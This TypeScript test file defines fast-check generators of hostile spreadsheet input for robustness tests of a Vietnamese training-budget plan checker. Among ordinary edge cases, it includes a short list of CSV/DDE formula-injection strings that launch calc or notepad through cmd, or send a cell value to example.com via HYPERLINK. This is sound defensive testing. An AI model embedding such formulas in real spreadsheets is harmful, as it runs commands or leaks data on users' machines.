/**
 * fast-check generators of hostile input for the robustness tests: cell values of every type
 * (Vietnamese text, numbers typed as text, formula-injection text, error values, huge and
 * negative numbers, NaN and Infinity, dates that do not exist), ragged and sparse grids, merged
 * ranges valid, huge and malformed, origin offsets, sheet names with quotes and diacritics, and
 * appendix sheets of the seed plans with random cells overwritten.
 */
import fc from "fast-check";
import { toA1 } from "../../src/engine/a1";
import { builtinRulebook } from "../../src/engine/rulebook/builtin";
import type { CellValue, SheetSnapshot, WorkbookSnapshot } from "../../src/engine/snapshot";
import { seed2024AsPrinted } from "../fixtures/seed2024";
import { seed2026AsPrinted } from "../fixtures/seed2026";

const ERROR_VALUES = [
  "#REF!",
  "#DIV/0!",
  "#N/A",
  "#VALUE!",
  "#NAME?",
  "#NUM!",
  "#NULL!",
  "#SPILL!",
  "#CALC!",
  "#GETTING_DATA",
] as const;

/** Texts that a spreadsheet would run as a formula (CSV/DDE injection), typed as plain text. */
export const INJECTION_TEXTS = [
  '=HYPERLINK("http://example.com/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1)",
  "-1+1",
  "=1+1",
  "=cmd|' /C notepad'!'A1'",
  "\t=1+1",
  '=WEBSERVICE("http://example.com")',
] as const;

/** Sheet names Excel allows that trip naive code: quotes, diacritics, look-alike formulas and cells. */
export const HOSTILE_SHEET_NAMES = [
  "PL6 KP 2026",
  "Tổng hợp",
  "'Trích dẫn'",
  "Kế hoạch 'năm' 2026",
  "It''s",
  "=SUM(1)",
  "A1",
  "R1C1",
  "Ngân sách (đã duyệt)",
  "Đăng ký — Hải Phòng",
  "Σ ∑ 数据",
  "😀 biểu tượng",
] as const;

const rulebooks = ["hai-phong-2026-2030", "hai-phong-2024", "hai-phong-2022"].map((id) =>
  builtinRulebook(id),
);

/** Words of the plans: headers, levels, courses, totals, units, titles, numbers and dates as text. */
const VOCABULARY: string[] = [
  ...new Set([
    "TT",
    "STT",
    "Nội dung",
    "Nội dung đào tạo, bồi dưỡng",
    "Số lượng dự kiến",
    "Đơn giá/người",
    "Đơn giá",
    "Thành tiền",
    "Kinh phí",
    "Ghi chú",
    "Hình thức thực hiện",
    "Đơn vị chủ trì",
    "Đơn vị phối hợp",
    "Quận/huyện",
    "Đơn vị",
    "Năm",
    "Họ và tên",
    "Tổng số",
    "Tổng cộng",
    "Cộng",
    "Tổng số:",
    "I",
    "II.",
    "A",
    "- ",
    "Bằng chữ: Một trăm bảy mươi chín tỷ hai trăm chín mươi hai triệu đồng",
    "Bằng chữ: constructor",
    "PHỤ LỤC 6",
    "Phụ lục IV",
    "KINH PHÍ ĐÀO TẠO, BỒI DƯỠNG NĂM 2026",
    "TỔNG HỢP KINH PHÍ ĐÀO TẠO, BỒI DƯỠNG GIAI ĐOẠN 2026 - 2030",
    "Đơn vị tính: triệu đồng",
    "Đơn vị tính: nghìn đồng",
    "Đơn vị tính: đồng",
    "(triệu đồng)",
    "(Kèm theo Kế hoạch số 12/KH-UBND ngày 5 tháng 12 năm 2025)",
    "4 GV/trường",
    "1.250.000",
    "13,26",
    "1,250.5",
    "(1.000)",
    "-",
    "x",
    "438.750.000 đ",
    "1,5 tỷ",
    "  13 008",
    "1".repeat(400),
    "05/12/1966",
    "31/02/2026",
    "ngày 5 tháng 12 năm 1966",
    "2026",
    "Năm 2027",
    "__proto__",
    "constructor",
    "toString",
    ...rulebooks.flatMap((rb) => [
      ...rb.levels.flatMap((l) => [l.id, l.name, ...l.aliases]),
      ...rb.courses.flatMap((c) => [c.name, ...c.aliases]),
      ...rb.units.flatMap((u) => [u.label, ...u.names.slice(0, 4)]),
    ]),
  ]),
];

/**
 * Numbers: small and large integers, any double up to 10^15 (a plan in đồng stays far below),
 * non-finite values (no spreadsheet stores them, a snapshot can) and the awkward ones.
 */
const numberArb: fc.Arbitrary<number> = fc.oneof(
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
  fc.integer({ min: 0, max: 500 }),
  fc.double({ min: -1e15, max: 1e15 }),
  fc.constantFrom(
    Number.MIN_VALUE,
    Number.MAX_SAFE_INTEGER + 2,
    -(2 ** 53),
    -1e-308,
    NaN,
    Infinity,
    -Infinity,
    -0,
    0,
    179_292,
    2026,
  ),
);

/** Numbers at the edge of what Excel stores (9.99e307): their sums overflow to Infinity. */
export const extremeNumberArb: fc.Arbitrary<number> = fc.oneof(
  fc.double(),
  fc.constantFrom(Number.MAX_VALUE, -Number.MAX_VALUE, 9.99e307, 1e308),
);

export const textArb: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...VOCABULARY) },
  { weight: 2, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 16 }) },
  { weight: 1, arbitrary: fc.constantFrom(...INJECTION_TEXTS) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom(...VOCABULARY),
        fc.constantFrom(" ", "\n", "\u00a0", "  ", ""),
        fc.constantFrom(...VOCABULARY),
      )
      .map(([a, s, b]) => `${a}${s}${b}`),
  },
);

/** An ISO date, real or not ("2026-02-31", "abc"). */
const dateArb = fc.oneof(
  fc
    .date({ min: new Date(Date.UTC(1800, 0, 1)), max: new Date(Date.UTC(2200, 0, 1)), noInvalidDate: true })
    .map((d) => d.toISOString().slice(0, 10)),
  fc.constantFrom("2026-02-31", "1900-02-29", "0000-00-00", "", "abc", "99999-01-01"),
);

export const cellArb: fc.Arbitrary<CellValue> = fc.oneof(
  { weight: 5, arbitrary: fc.constant(null) },
  { weight: 4, arbitrary: numberArb },
  { weight: 5, arbitrary: textArb },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constantFrom(...ERROR_VALUES).map((error) => ({ error })) },
  { weight: 1, arbitrary: dateArb.map((date) => ({ date })) },
);

/** A merged range: inside the grid, huge (whole columns, the whole sheet) or malformed. */
const mergeArb: fc.Arbitrary<string> = fc.oneof(
  fc
    .tuple(fc.nat(40), fc.nat(16), fc.nat(40), fc.nat(16))
    .map(([r0, c0, r1, c1]) => `${toA1(r0, c0)}:${toA1(r1, c1)}`),
  fc.constantFrom(
    "A1:XFD1048576",
    "A1:A1048576",
    "B2:XFD2",
    "XFD1048576:A1",
    "A1",
    "",
    ":",
    "A1:",
    ":B2",
    "A0:B0",
    "1A:2B",
    "A1:B2:C3",
    "ZZZZ1:A1",
    "A99999999:B2",
    "$A$1:$C$3",
    "a1:c3",
    "A1 B2",
    "Sheet1!A1:B2",
  ),
  fc.string({ maxLength: 12 }),
);

export interface SheetOptions {
  maxRows?: number;
  maxCols?: number;
}

/** Rows of cells: ragged, and sparse (missing rows are holes, as a sheet read sparsely has). */
function gridArb({ maxRows = 24, maxCols = 12 }: SheetOptions = {}): fc.Arbitrary<CellValue[][]> {
  return fc
    .tuple(
      fc.array(fc.array(cellArb, { maxLength: maxCols }), { maxLength: maxRows }),
      fc.array(fc.nat(maxRows), { maxLength: 3 }),
    )
    .map(([generated, holes]) => {
      const rows = generated.map((row) => [...row]);
      // Holes on purpose: a sparse row array, as a hostile snapshot may hold.
      // eslint-disable-next-line @typescript-eslint/no-array-delete
      for (const h of holes) if (h < rows.length) delete rows[h];
      return rows;
    });
}

const formulaTextArb = fc.oneof(
  fc.constantFrom("SUM(C5:H5)", "C7*I7", "1/0", "J7+J8", "#REF!+1", 'HYPERLINK("http://x")'),
  fc.string({ maxLength: 12 }),
);

function formulasFor(values: CellValue[][]): fc.Arbitrary<(string | null)[][] | undefined> {
  return fc.option(
    fc
      .array(fc.tuple(fc.nat(Math.max(0, values.length - 1)), fc.nat(12), formulaTextArb), { maxLength: 6 })
      .map((list) => {
        const f: (string | null)[][] = Array.from({ length: values.length }, () => []);
        for (const [r, c, text] of list) if (r < f.length) f[r][c] = text;
        return f;
      }),
    { nil: undefined },
  );
}

const visibilityArb = fc.constantFrom(undefined, "visible", "hidden", "veryHidden") as fc.Arbitrary<
  SheetSnapshot["visibility"]
>;

/** A sheet of random cells. */
function randomSheetArb(options: SheetOptions = {}): fc.Arbitrary<Omit<SheetSnapshot, "name">> {
  return gridArb(options).chain((values) =>
    fc.record(
      {
        values: fc.constant(values),
        formulas: formulasFor(values),
        merges: fc.option(fc.array(mergeArb, { maxLength: 6 }), { nil: undefined }),
        origin: fc.option(
          fc.record({
            row: fc.oneof(fc.nat(20), fc.nat(1_048_000)),
            col: fc.oneof(fc.nat(5), fc.nat(16_000)),
          }),
          { nil: undefined },
        ),
        visibility: visibilityArb,
        protected: fc.option(fc.boolean(), { nil: undefined }),
      },
      { requiredKeys: ["values"] },
    ),
  );
}

/** The appendix sheets of the printed seed plans (2026–2030 and 2024), the bases of mutated sheets. */
const SEED_SHEETS: readonly SheetSnapshot[] = [...seed2026AsPrinted().sheets, ...seed2024AsPrinted().sheets];

interface Edit {
  r: number;
  c: number;
  v: CellValue;
}

/**
 * A real appendix with a few cells overwritten, rows cut short or removed, merges added and the
 * sheet moved: reaches the rules, where random grids mostly stop at recognition.
 */
export function mutatedSeedSheetArb(): fc.Arbitrary<Omit<SheetSnapshot, "name">> {
  return fc
    .record({
      base: fc.nat(SEED_SHEETS.length - 1),
      edits: fc.array(fc.record({ r: fc.nat(40), c: fc.nat(12), v: cellArb }) as fc.Arbitrary<Edit>, {
        maxLength: 8,
      }),
      cut: fc.array(fc.tuple(fc.nat(40), fc.nat(12)), { maxLength: 2 }),
      drop: fc.array(fc.nat(40), { maxLength: 2 }),
      merges: fc.array(mergeArb, { maxLength: 3 }),
      origin: fc.option(fc.record({ row: fc.nat(30), col: fc.nat(5) }), { nil: undefined }),
      visibility: visibilityArb,
    })
    .map(({ base, edits, cut, drop, merges, origin, visibility }) => {
      const seed = structuredClone(SEED_SHEETS[base]);
      const values = seed.values;
      for (const { r, c, v } of edits) {
        if (r >= values.length) continue;
        const row = (values[r] ??= []);
        row[c] = v;
        for (let i = 0; i < c; i++) if (row[i] === undefined) row[i] = null;
        if (seed.formulas?.[r]?.[c] !== undefined) seed.formulas[r][c] = null;
      }
      for (const [r, len] of cut) if (values[r]) values[r].length = Math.min(values[r].length, len);
      // eslint-disable-next-line @typescript-eslint/no-array-delete -- holes on purpose (sparse rows)
      for (const r of drop) if (r < values.length) delete values[r];
      const sheet: Omit<SheetSnapshot, "name"> = {
        values,
        merges: [...(seed.merges ?? []), ...merges],
      };
      if (seed.formulas) sheet.formulas = seed.formulas;
      if (origin) sheet.origin = origin;
      if (visibility) sheet.visibility = visibility;
      return sheet;
    });
}

const sheetNameArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_SHEET_NAMES),
  fc.string({ minLength: 1, maxLength: 31 }),
);

/** A workbook of random and mutated appendix sheets with unique names (as Excel guarantees). */
export function workbookArb(
  options: SheetOptions & { maxSheets?: number } = {},
): fc.Arbitrary<WorkbookSnapshot> {
  const sheet = fc.record({
    name: sheetNameArb,
    body: fc.oneof(randomSheetArb(options), mutatedSeedSheetArb()),
  });
  return fc.array(sheet, { maxLength: options.maxSheets ?? 4 }).map((list) => {
    const seen = new Set<string>();
    return {
      sheets: list.map(({ name, body }, i) => {
        let unique = name;
        for (let k = 2; seen.has(unique.toLocaleLowerCase("vi")); k++)
          unique = `${name.slice(0, 20)} (${i}.${k})`;
        seen.add(unique.toLocaleLowerCase("vi"));
        return { name: unique, ...body };
      }),
    };
  });
}
